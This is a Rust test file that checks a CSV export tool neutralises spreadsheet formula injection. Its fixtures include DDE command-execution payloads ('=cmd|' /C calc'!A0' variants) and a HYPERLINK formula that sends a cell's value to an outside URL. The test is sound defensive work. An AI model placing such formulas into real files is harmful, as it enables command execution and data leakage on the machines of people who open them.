//! Cells that a spreadsheet would run.

use std::ffi::OsStr;

use crate::binary::Place;

const FORMULAS: [&str; 5] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"\"http://example.org/?x=\"\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
];

#[test]
fn a_formula_in_a_list_comes_out_as_text() {
    let place = Place::new();
    let mut list = "Nom;Type;Adresse;Commune;=1+1\n".to_owned();
    for formula in FORMULAS {
        list.push_str(&format!("\"{formula}\";multi-accueil;\"{formula}\";Maule;\"{formula}\"\n"));
    }
    let path = place.file("=cmd.csv", list.as_bytes());
    let ended = place.import(&[&path], None);
    assert_eq!(ended.code, Some(0), "{}", ended.messages);
    for layer in ["facilities", "coverage", "white-zones"] {
        let words = ["export", "--territory", "200034130", "--layer", layer, "-o", "out.csv"];
        let ended = place.run(&words.map(OsStr::new), None);
        assert_eq!(ended.code, Some(0), "{layer}: {}", ended.messages);
        let table = std::fs::read(place.path("out.csv")).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&table[..]);
        let mut found = 0;
        for record in reader.records() {
            for cell in &record.unwrap() {
                let number = cell.parse::<f64>().is_ok();
                assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
                found += usize::from(cell.starts_with("'=") || cell.starts_with("'@"));
            }
        }
        assert!(layer != "facilities" || found >= 3, "{layer}: {found}");
    }
}
